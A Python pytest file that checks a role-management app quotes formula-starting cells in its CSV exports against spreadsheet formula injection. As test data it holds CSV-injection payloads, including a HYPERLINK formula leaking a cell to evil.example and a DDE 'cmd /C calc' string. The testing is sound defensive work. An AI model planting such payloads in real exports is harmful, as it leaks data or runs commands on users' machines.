"""CSV injection (issue 12, item 12): a customer types a role, member, field or record name
such as `=HYPERLINK(...)` or `@SUM(1)`; an administrator exports a CSV and opens it in a
spreadsheet. Every exported cell that a spreadsheet would read as a formula starts with
`'` (OWASP), and each test reads the file back with `csv`, as the spreadsheet would.

Every CSV writer of the code base goes through `services.csv_export.csv_text`; the last
test keeps it that way."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from anyio.from_thread import start_blocking_portal

import rolegate
from rolegate.asgi import create_app
from rolegate.bootstrap import Rolegate, bootstrap
from rolegate.config import Settings
from rolegate.domain.workspace import Actor
from rolegate.engine import Record
from rolegate.services import fields, members, records, roles
from rolegate.services.api_keys import create_api_key
from rolegate.services.workspaces import create_organization, create_workspace
from tests.api.conftest import Api
from tests.web.conftest import Web

PLATFORM = Actor.system("test")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
SUM = "@SUM(1)"
HOSTILE = (HYPERLINK, SUM, "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=2+2")
"""One name per prefix of OWASP's list (=, @, +, -, tab, carriage return)."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula (OWASP), stated here apart from
the code under test."""
ADMIN_EMAIL, ADMIN_PASSWORD = "admin@csv.test", "admin exports csv"


@dataclass(frozen=True)
class Exporter:
    """A workspace full of hostile names, and the two doors that export it."""

    rolegate: Rolegate
    natero: str
    catalyst: str
    web: Web
    api: Api


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.fixture(scope="module")
def exporter(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exporter]:
    """Built once: the tests only export."""
    path = tmp_path_factory.mktemp("csv") / "csv.db"
    rg = bootstrap(Settings(database_url=f"sqlite:///{path}", listen=False, secret_key="csv-test"))
    rg.create_tables()
    org = create_organization(rg.uow(), actor=PLATFORM, name="CSV Inc")
    natero = create_workspace(
        rg.uow(), actor=PLATFORM, preset="natero", name="Natero", owner_email=ADMIN_EMAIL, owner_password=ADMIN_PASSWORD, organization_id=org
    ).workspace.id
    catalyst = create_workspace(rg.uow(), actor=PLATFORM, preset="catalyst", name="Catalyst", owner_email=ADMIN_EMAIL, organization_id=org).workspace.id
    for i, name in enumerate(HOSTILE):
        # a member names themselves, a role is named, a host sends a record id
        member = members.add_member(rg.uow(), actor=PLATFORM, workspace_id=natero, email=f"m{i}@csv.test", role_id="csm_manager", name=name).member.id
        roles.create_role(rg.uow(), actor=Actor.member(member), workspace_id=natero, name=name, grants=["accounts.view_all"], landing_page="dashboard")
        records.upsert_record(rg.uow(), actor=PLATFORM, workspace_id=natero, record=Record("account", name, None, None))
        fields.add_field(rg.uow(), actor=PLATFORM, workspace_id=catalyst, object_type="account", name=f"f{i}", label=name)
    key = create_api_key(rg.uow(), organization_id=org, rights={"admin", "decide"}, name="csv test")
    app = create_app(rg)
    with start_blocking_portal() as portal:
        web_client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://rolegate.test")
        api_client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://rolegate.test")
        try:
            web = Web(portal, web_client)
            web.login(ADMIN_EMAIL, ADMIN_PASSWORD)
            yield Exporter(rg, natero, catalyst, web, Api(portal, api_client, key))
        finally:
            portal.call(web_client.aclose)
            portal.call(api_client.aclose)
            rg.close()


def _assert_neutralized(rows: list[list[str]], *, names: tuple[str, ...] = HOSTILE) -> None:
    """No cell starts a formula, and each hostile name is there, behind its `'`."""
    assert _formula_cells(rows) == []
    cells = [cell for row in rows for cell in row]
    for name in names:
        assert any(cell.startswith("'" + name) for cell in cells), f"{name!r} is not in the export as text"


def test_csv_cell_quotes_every_formula_prefix_and_nothing_else() -> None:
    from rolegate.services.csv_export import csv_cell  # here, so the export tests below also run on code without it

    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(prefix + "1+1") == "'" + prefix + "1+1"
    for harmless in ("Owner", "1+1", " =1", "'=1", "", "a=b"):
        assert csv_cell(harmless) == harmless
    assert csv_cell(None) == ""
    assert csv_cell(-5) == "'-5"


def test_csv_text_reads_back_as_the_same_text_behind_a_quote() -> None:
    from rolegate.services.csv_export import csv_text

    rows = _read(csv_text(["name", "note"], [[HYPERLINK, 'say "hi", then\r\nleave'], [SUM, 3]]))
    assert rows == [["name", "note"], ["'" + HYPERLINK, 'say "hi", then\r\nleave'], ["'" + SUM, "3"]]


def test_matrix_csv_keeps_hostile_role_names_as_text(exporter: Exporter) -> None:
    r = exporter.web.get(f"/w/{exporter.natero}/matrix.csv")
    assert r.status_code == 200, r.text
    rows = _read(r.text)
    _assert_neutralized(rows, names=tuple(n.strip() for n in HOSTILE))  # role names are stored trimmed
    assert rows[0][:3] == ["area", "permission", "label"]


def test_audit_csv_in_the_admin_ui_keeps_member_role_field_and_record_names_as_text(exporter: Exporter) -> None:
    for ws in (exporter.natero, exporter.catalyst):
        r = exporter.web.get(f"/w/{ws}/audit/export.csv")
        assert r.status_code == 200, r.text
        rows = _read(r.text)
        assert _formula_cells(rows) == []
    natero = _read(exporter.web.get(f"/w/{exporter.natero}/audit/export.csv").text)
    header = natero[0]
    actor_names = {row[header.index("actor_name")] for row in natero[1:]}
    record_ids = {row[header.index("target_id")] for row in natero[1:] if row[header.index("action")] == "record.upsert"}
    # member names lead the actor_name cell (stored trimmed, as role names are); a host's
    # record id is the whole target_id cell, and keeps its tab or CR
    assert {"'" + n.strip() for n in HOSTILE} <= {a.split(" <")[0] for a in actor_names}
    assert record_ids == {"'" + n for n in HOSTILE}


def test_audit_csv_over_the_api_keeps_hostile_names_as_text(exporter: Exporter) -> None:
    owner = _owner(exporter)
    r = exporter.api.as_(actor=owner).get(f"/v1/workspaces/{exporter.natero}/audit/export", params={"format": "csv"})
    assert r.status_code == 200, r.text
    rows = _read(r.text)
    assert _formula_cells(rows) == []
    header = rows[0]
    assert {row[header.index("target_id")] for row in rows[1:] if row[header.index("action")] == "record.upsert"} == {"'" + n for n in HOSTILE}
    # a field label and a role name appear inside the changes cell, which starts with its path
    changes = " ".join(row[header.index("changes")] for row in rows[1:])
    assert repr(HYPERLINK) in changes


def _owner(exporter: Exporter) -> str:
    with exporter.rolegate.uow() as uow:
        found = [m.member.id for m in uow.members.all(exporter.natero) if m.email == ADMIN_EMAIL]
    return found[0]


def test_every_csv_writer_goes_through_the_one_helper() -> None:
    """A new export written with `csv.writer` beside `csv_text` would skip the defense."""
    src = Path(rolegate.__file__).parent
    helper = src / "services" / "csv_export.py"
    writers = [p for p in src.rglob("*.py") if p != helper and re.search(r"\bcsv\.(writer|DictWriter)\b|^import csv|^from csv ", p.read_text(), re.M)]
    assert writers == [], f"write CSV through rolegate.services.csv_export.csv_text: {writers}"
